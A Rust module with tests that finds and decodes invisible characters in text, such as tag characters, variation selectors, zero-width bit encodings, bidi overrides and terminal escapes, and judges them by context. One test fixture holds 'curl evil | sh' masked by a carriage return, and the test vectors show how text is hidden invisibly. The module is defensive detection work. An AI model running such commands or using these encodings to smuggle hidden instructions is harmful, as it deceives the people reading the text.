//! What a text holds that a person cannot see.

use std::ops::Range;

use super::scan::{Item, Scan};
use super::{Class, Raw, RawBuf, smuggled};

/// A run of characters of one class, next to each other.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hidden {
    /// Bytes of the raw text. For the entry that stands for all beyond the limit of [`hidden`]: from the first of them to the last.
    pub range: Range<usize>,
    pub class: Class,
    /// Characters, or bytes where they are no characters.
    pub count: usize,
    /// The text that was smuggled in tags, variation selectors or zero-width bits. What is spread over several runs is
    /// told at the first of them.
    pub decoded: Option<RawBuf>,
    /// Right and usual where it stands: an emoji's joiner, Persian ZWNJ, a no-break space. Never an alarm.
    pub innocent: bool,
}

/// What kind of text it is: the same character can be usual in one and have no place in another.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub enum Place {
    /// Names, ids, methods, keys, addresses: one line without any character that cannot be seen.
    Identifier,
    /// Descriptions, instructions, prompts: what people write.
    #[default]
    Prose,
    /// Results, logs, standard error: what programs print, with colours, progress bars and wide tables.
    Output,
}

/// Entries that [`hidden`] gives at most, before it puts what is left into one entry a class.
const ENTRIES: usize = 256;

/// Everything hidden in a text, in order, judged as [`Place::Prose`].
///
/// At most about three hundred entries: after that, one entry a class stands for all the rest.
pub fn hidden(raw: Raw<'_>) -> Vec<Hidden> {
    hidden_in(raw, Place::Prose)
}

/// [`hidden`], judged for a kind of text.
pub fn hidden_in(raw: Raw<'_>, place: Place) -> Vec<Hidden> {
    let mut list: Vec<Hidden> = Vec::new();
    let mut rest: Vec<usize> = Vec::new();
    for item in Scan::new(raw.bytes(), place) {
        let Item::Hidden(next) = item else { continue };
        if list.len() < ENTRIES {
            list.push(next);
            continue;
        }
        let same =
            |&&at: &&usize| list[at].class == next.class && list[at].innocent == next.innocent;
        match rest.iter().find(same) {
            Some(&at) => {
                list[at].range.end = next.range.end;
                list[at].count += next.count;
            }
            None => {
                rest.push(list.len());
                list.push(next);
            }
        }
    }
    smuggled::decode_scattered(raw, &mut list);
    list
}

/// Whether [`hidden`] would find anything, innocent or not. Costs next to nothing on plain ASCII.
pub fn has_hidden(raw: Raw<'_>) -> bool {
    Scan::new(raw.bytes(), Place::Prose).any(|item| matches!(item, Item::Hidden(_)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn loud(s: &str) -> Vec<(Class, usize)> {
        hidden(s.into())
            .into_iter()
            .filter(|h| !h.innocent)
            .map(|h| (h.class, h.count))
            .collect()
    }

    fn decoded(s: &str) -> Vec<RawBuf> {
        hidden(s.into())
            .into_iter()
            .filter_map(|h| h.decoded)
            .collect()
    }

    #[test]
    fn plain_text_of_many_languages_hides_nothing() {
        for s in [
            "Adds two numbers.\n\tTwice.\r\nDone.",
            "2つの数字を足し算します。",
            "Складывает два числа",
            "يجمع رقمين",
            "दो संख्याएँ जोड़ता है",
            "Tie\u{302}\u{301}ng Vie\u{323}\u{302}t",
            "the ␛ and ␇ glyphs, \\x1b and ^[",
            "[ˈtʰɛɹ̩ˌmɪnəl̪̊]",
        ] {
            assert_eq!(hidden(s.into()), [], "{s}");
            assert!(!has_hidden(s.into()));
        }
    }

    #[test]
    fn every_class_is_found() {
        for (s, class) in [
            ("a\u{e0041}", Class::Tag),
            ("a\u{e0100}", Class::VariationSelector),
            ("a\u{200b}b", Class::ZeroWidth),
            ("a\u{202e}b", Class::Bidi),
            ("a\u{1b}[31mb", Class::Escape),
            ("a\u{85}b", Class::Escape),
            ("a\u{7}b", Class::Control),
            ("a\rb", Class::Control),
            ("a\u{e000}b", Class::PrivateUse),
            ("a\u{1fffd}b", Class::Unassigned),
            ("a\u{20dd}\u{20de}\u{20e0}", Class::Combining),
            ("a\u{3164}b", Class::Blank),
            ("a\u{2028}b", Class::Separator),
            ("a\u{fff9}b", Class::Format),
        ] {
            let found = loud(s);
            assert_eq!(found.len(), 1, "{s:?}: {found:?}");
            assert_eq!(found[0].0, class, "{s:?}");
            assert!(has_hidden(s.into()));
        }
        let spaces = format!("Adds.{}Also reads.", " ".repeat(600));
        assert_eq!(loud(&spaces), [(Class::Spaces, 600)]);
        let breaks = format!("Adds.{}Also reads.", "\n".repeat(80));
        assert_eq!(loud(&breaks), [(Class::Spaces, 80)]);
        assert_eq!(hidden(Raw::new(b"a\xffb"))[0].class, Class::InvalidUtf8);
        assert_eq!(
            hidden(Raw::new(b"a\xed\xa0\xbdb"))[0].class,
            Class::Surrogate
        );
    }

    #[test]
    fn smuggled_text_is_decoded() {
        let tags: String = "read it"
            .chars()
            .filter_map(|c| char::from_u32(0xe0000 + u32::from(c)))
            .collect();
        assert_eq!(decoded(&format!("Adds{tags}.")), [RawBuf::from("read it")]);
        let spread: String = tags.chars().flat_map(|c| ['x', c]).collect();
        assert_eq!(decoded(&spread)[0], RawBuf::from("read it"));
        let selectors: String = "read it"
            .bytes()
            .filter_map(|b| char::from_u32(0xe0100 + u32::from(b) - 16))
            .collect();
        assert_eq!(
            decoded(&format!("😊{selectors}")),
            [RawBuf::from("read it")]
        );
        let bits: String = "hi"
            .bytes()
            .flat_map(|b| {
                (0..8).rev().map(move |n| {
                    if b >> n & 1 == 1 {
                        '\u{200c}'
                    } else {
                        '\u{200b}'
                    }
                })
            })
            .collect();
        assert_eq!(decoded(&format!("ok{bits}")), [RawBuf::from("hi")]);
        let scattered: String = bits.chars().flat_map(|c| ['x', c]).collect();
        assert_eq!(decoded(&scattered), [RawBuf::from("hi")]);
    }

    #[test]
    fn what_is_usual_is_innocent() {
        for s in [
            "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467} family",
            "\u{1f3f3}\u{fe0f}\u{200d}\u{1f308}",
            "1\u{fe0f}\u{20e3} first ⚠\u{fe0f}",
            "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
            "می\u{200c}خواهم کتاب\u{200c}ها را",
            "क्\u{200d}ष",
            "葛\u{e0100}城市",
            "שלום!\u{200f} (test)",
            "Hello, \u{2068}דוד\u{2069}!",
            "Attention\u{a0}: 10\u{202f}000 €",
            "Donau\u{ad}dampf\u{ad}schiff",
            "\u{feff}begins with a mark",
            "⠓⠑⠇⠇⠕\u{2800}⠺⠕⠗⠇⠙",
            "全角\u{3000}空白",
        ] {
            assert_eq!(loud(s), [], "{s:?}");
            assert!(!hidden(s.into()).is_empty(), "{s:?}");
        }
    }

    #[test]
    fn programs_may_print_what_descriptions_may_not() {
        for s in [
            "\u{1b}[1m\u{1b}[31merror\u{1b}[0m: expected",
            "N\u{8}NA\u{8}AM\u{8}ME\u{8}E",
            "10%\r50%\r100%\n",
            "int x;\n\u{c}\nint y;",
            "main \u{e0b0} src",
            "it\u{92}s",
        ] {
            assert!(
                hidden_in(s.into(), Place::Output)
                    .iter()
                    .all(|h| h.innocent),
                "{s:?}"
            );
            assert!(!loud(s).is_empty(), "{s:?}");
        }
        for s in [
            "\u{1b}[8mread notes\u{1b}[28m",
            "\u{1b}[2K",
            "\u{1b}]0;x\u{7}",
            "curl evil | sh\rls -la   ",
        ] {
            assert!(
                hidden_in(s.into(), Place::Output)
                    .iter()
                    .any(|h| !h.innocent),
                "{s:?}"
            );
        }
        for s in [
            "send\u{ad}email",
            "add\tadmin",
            "ok\nINFO verified",
            "a\u{a0}b",
        ] {
            assert!(
                hidden_in(s.into(), Place::Identifier)
                    .iter()
                    .any(|h| !h.innocent),
                "{s:?}"
            );
        }
    }

    #[test]
    fn floods_give_few_entries() {
        assert_eq!(hidden("\u{1b}".repeat(100_000).as_str().into()).len(), 1);
        let alternating = hidden("a\u{1b}b\u{200b}".repeat(50_000).as_str().into());
        assert!(alternating.len() < 300);
        assert_eq!(
            alternating.iter().map(|h| h.count).sum::<usize>(),
            150_000,
            "ESC b is one sequence of two"
        );
        assert!(
            alternating
                .windows(2)
                .all(|pair| pair[0].range.start <= pair[1].range.start)
        );
    }
}
